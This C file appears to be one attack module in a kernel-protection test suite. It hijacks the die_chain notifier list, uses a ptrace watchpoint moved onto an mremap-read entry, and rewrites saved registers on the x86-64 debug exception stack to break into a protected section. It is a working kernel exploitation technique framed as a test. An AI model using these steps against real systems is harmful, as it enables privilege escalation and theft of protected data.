// SPDX-License-Identifier: GPL-2.0-only
/*
 * Attack on what a section will do behind a debug exception. A watchpoint of the
 * process's own is moved, in the kernel's record of it, to an entry that mremap()
 * reads in a section. The list of who is told of exceptions is made endless, so that
 * the handler stays. Meanwhile the register that says where entries come from is
 * pointed, on the handler's stack, at a page of the attacker's.
 */
#include <signal.h>
#include <sys/ptrace.h>
#include <sys/wait.h>
#include <unistd.h>

#include "attack.h"
#include "breakpoint.h"
#include "list.h"
#include "mover.h"
#include "objects.h"
#include "pt_regs.h"

#ifdef __x86_64__
#define WATCHED		2		/* entries behind the first one that is moved */
#define ENOUGH		12		/* frames that were changed */
#define SECONDS		60
#define PATIENCE	100		/* milliseconds */
#define LAST_LOOK	300000		/* microseconds */

/* DR7 for DR0: loads and stores of eight bytes */
#define DR7_ACCESS	(1UL | 3UL << 16 | 2UL << 18)

/* struct atomic_notifier_head, struct notifier_block */
#define CHAIN_FIRST	8
#define BLOCK_NEXT	8
#define BLOCK_SIZE	24

/* The other CPU's count of preemption, whose bits for NMIs debug exceptions set, too. */
#define CURRENT		"pcpu_hot"
#define PREEMPT_COUNT	8
#define IN_NMI		0xf00000
#define TSS_IST_DB	(36 + 2 * 8)

static struct {
	struct moved moved;
	struct kernel_page block;
	uint64_t chain, first, count, frame;
	int held, changed;
} target;

/*
 * It is hit once at the start. The task remembers that it is to be told of a hit, and
 * so all who are in the list are asked about the next ones.
 */
static volatile uint64_t decoy;

static void begin(void)
{
	ptrace(PTRACE_TRACEME, 0, NULL, NULL);
	raise(SIGSTOP);
	decoy = 1;
}

static bool has_stopped(pid_t pid, int by)
{
	int status;

	return waitpid(pid, &status, 0) == pid && WIFSTOPPED(status) && WSTOPSIG(status) == by;
}

static bool watch(pid_t pid)
{
	uint64_t entry = first_moved(&target.moved, 0) + WATCHED * sizeof(entry);

	return breakpoint_set(pid, DR7_ACCESS, (uint64_t)&decoy) &&
	       !ptrace(PTRACE_CONT, pid, NULL, NULL) && has_stopped(pid, SIGTRAP) &&
	       breakpoint_move(pid, (uint64_t)&decoy, entry);
}

static bool find_chain(void)
{
	char block[BLOCK_SIZE];

	target.chain = ksymbol("die_chain") + CHAIN_FIRST;
	target.count = ksymbol_cpu(CURRENT, MOVER_CPU) + PREEMPT_COUNT;
	target.frame = kread64(ksymbol_cpu("cpu_tss_rw", MOVER_CPU) + TSS_IST_DB) -
		       FRAME_WORDS * sizeof(uint64_t);
	target.first = kread64(target.chain);
	if (!is_kernel_address(target.first) || kread(target.first, block, sizeof(block)) ||
	    !kernel_page(&target.block))
		return false;
	kwrite(target.block.addr, block, sizeof(block));
	return true;
}

static void be_endless(bool endless)
{
	kwrite64(target.block.addr + BLOCK_NEXT, endless ? target.block.addr : 0);
}

static bool is_in_handler(void)
{
	return kread64(target.count) & IN_NMI;
}

/* It is there to stay if it is seen twice. */
static bool wait_for_handler(void)
{
	uint64_t end = now_ms() + PATIENCE;

	while (!mover->found && now_ms() < end) {
		usleep(1000);
		if (is_in_handler() && is_in_handler())
			return true;
	}
	return false;
}

static void change_frame(void)
{
	uint64_t frame[FRAME_WORDS];

	if (kread(target.frame, frame, sizeof(frame)) || !is_kernel_frame(frame))
		return;
	prepare_page(&target.moved);
	target.changed += point_registers(&target.moved, target.frame, frame);
}

static void attack_once(void)
{
	be_endless(true);
	if (wait_for_handler()) {
		target.held++;
		if (!is_protected() || has_hit_section(MOVER_CPU))
			change_frame();
	}
	be_endless(false);
	wait_for_round();
}

static enum outcome change_registers(void)
{
	uint64_t end = now_ms() + SECONDS * 1000;

	kwrite64(target.chain, target.block.addr);
	while (!mover->found && target.changed < ENOUGH && now_ms() < end)
		attack_once();
	kwrite64(target.chain, target.first);
	usleep(LAST_LOOK);
	if (!mover->found && !target.changed)
		return broken("no section was trapped (%lu rounds, %d exceptions held)",
			      mover->rounds, target.held);
	return judge_secret(mover->text, 0);
}

enum outcome trap_registers(void)
{
	enum outcome outcome;
	pid_t pid;

	if (sysconf(_SC_NPROCESSORS_ONLN) < 2)
		return skipped("needs a second CPU");
	stay_on_cpu(0);
	pid = start_mover(begin);
	if (!has_stopped(pid, SIGSTOP) || !find_moved(pid, &target.moved))
		return broken("no mover, or no tables");
	if (!watch(pid) || !find_chain())
		return broken("no watchpoint, or nobody is told of exceptions");
	ptrace(PTRACE_CONT, pid, NULL, NULL);
	outcome = change_registers();
	kill(pid, SIGKILL);
	return outcome;
}

#else

enum outcome trap_registers(void)
{
	return skipped("x86-64 only");
}

#endif
